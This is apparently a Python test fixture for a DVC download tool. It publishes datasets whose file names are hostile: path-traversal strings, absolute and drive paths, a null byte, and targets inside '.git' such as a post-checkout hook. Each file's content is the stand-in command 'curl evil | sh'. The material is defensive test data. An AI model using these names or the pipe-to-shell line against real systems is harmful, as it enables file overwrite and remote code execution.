"""Data whose publisher has chosen the names with bad intent."""

import json
from collections.abc import Sequence
from hashlib import md5
from pathlib import Path

from tests.verify.published import Published

BODY = b"curl evil | sh\n"

#: Names that must never become a path, each by what is wrong with it.
NAMES = {
    "up": "../escaped",
    "far up": "../../../escaped",
    "up in the middle": "a/../../../escaped",
    "up at the end": "a/..",
    "absolute": "/tmp/dvc-bucket-escaped",
    "on a drive": "C:/escaped",
    "on a drive of Windows": "C:\\escaped",
    "up by backslashes": "..\\escaped",
    "a root by a backslash": "\\escaped",
    "zero byte": "a\0b",
    "empty": "",
    "empty part": "a//b",
    "end in a slash": "a/",
    "here": ".",
    "a part that is here": "a/./b",
    "a git repository": ".git/config",
    "a git repository in capitals": "a/.GIT/hooks/post-checkout",
}

#: Names that are unusual and right.
GOOD = [
    "a",
    "b/c/d",
    "..a",
    "a..",
    "e/...",
    ".gitignore",
    "C:escaped",
    "a:b",
    " ",
    "ü\n\x1b[31m",
    "-",
]


def publish(made: Published, names: Sequence[str], dataset: str = "hostile") -> None:
    """Have DVC track a directory whose list has these names; its objects are on the remote."""
    publish_files(made, [(name, BODY) for name in names], dataset)


def publish_files(made: Published, files: Sequence[tuple[str, bytes]], dataset: str) -> None:
    """Have DVC track a directory of files, by name and content; its objects are on the remote."""
    oids = [(name, md5(body).hexdigest()) for name, body in files]
    listed = json.dumps([{"md5": oid, "relpath": name} for name, oid in oids]).encode()
    whole = f"{md5(listed).hexdigest()}.dir"
    bodies = {oid: body for (_, oid), (_, body) in zip(oids, files, strict=True)}
    for oid, body in (bodies | {whole: listed}).items():
        made.put(f"files/md5/{oid[:2]}/{oid[2:]}", body)
    size = sum(len(body) for _, body in files)
    (made.root / f"{dataset}.dvc").write_text(
        f"outs:\n- md5: {whole}\n  size: {size}\n  nfiles: {len(files)}\n"
        f"  hash: md5\n  path: {dataset}\n"
    )


def files(folder: Path) -> dict[str, bytes]:
    """Every file around a folder of the test's own, but for what git, DVC and the store keep."""
    kept = {".git", ".dvc", ".venv", "__pycache__"}
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and not kept & set(path.relative_to(folder).parts)
    }
